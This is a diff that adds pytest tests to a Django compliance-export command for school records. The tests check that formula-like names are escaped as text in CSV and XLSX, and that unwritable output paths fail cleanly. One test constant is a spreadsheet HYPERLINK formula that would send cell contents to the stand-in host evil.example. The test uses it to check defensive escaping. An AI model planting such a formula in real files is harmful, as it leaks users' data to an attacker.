@@ -8,6 +8,7 @@ import csv
 import datetime
 import io
 import json
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import openpyxl
@@ -281,3 +282,45 @@ def test_the_csv_and_xlsx_say_in_words_which_values_are_stale_and_from_when(
     assert record(records, "СОШ №101", "vk")["posts_total"] in ("46", 46)
     assert record(records, "СОШ №101", "ok")["stale"] in ("", None)  # fresh: empty
     assert record(records, "СОШ №103", "ok")["stale"] in ("", None)  # no page
+
+
+# --- text a spreadsheet would run, and paths it cannot write ---------------------------------------
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
+
+
+def test_a_name_that_looks_like_a_formula_is_written_as_text_in_csv_and_xlsx(db, tmp_path):
+    OrganizationFactory(short_name="+СОШ №104", name=FORMULA_NAME)
+
+    csv_rows = list(csv.DictReader(io.StringIO(export("csv", tmp_path).decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx", tmp_path))).active
+
+    assert {(row["short_name"], row["name"]) for row in csv_rows} == {("'+СОШ №104", "'" + FORMULA_NAME)}
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    header, *body = list(sheet.iter_rows(values_only=True))
+    assert {(row[header.index("short_name")], row[header.index("name")]) for row in body} == {
+        ("'+СОШ №104", "'" + FORMULA_NAME)
+    }
+
+
+@pytest.mark.parametrize(
+    ("make_path", "message"),
+    [
+        (lambda tmp: tmp / "missing" / "export.csv", "Нет папки для файла"),
+        (lambda tmp: tmp, "это папка, а нужен путь к файлу"),
+        (lambda tmp: Path("/proc/export.csv"), "Не удалось записать /proc/export.csv"),
+    ],
+    ids=["missing folder", "a directory", "unwritable folder"],
+)
+def test_a_path_it_cannot_write_is_one_russian_line_and_leaves_nothing(db, tmp_path, make_path, message):
+    OrganizationFactory(short_name="СОШ №105")
+
+    with pytest.raises(CommandError) as failed:
+        call_command(
+            "export_compliance", "--format", "csv", "--output", str(make_path(tmp_path)),
+            stdout=io.StringIO(), stderr=io.StringIO(),
+        )
+
+    assert message in str(failed.value) and "\n" not in str(failed.value)
+    assert list(tmp_path.iterdir()) == []
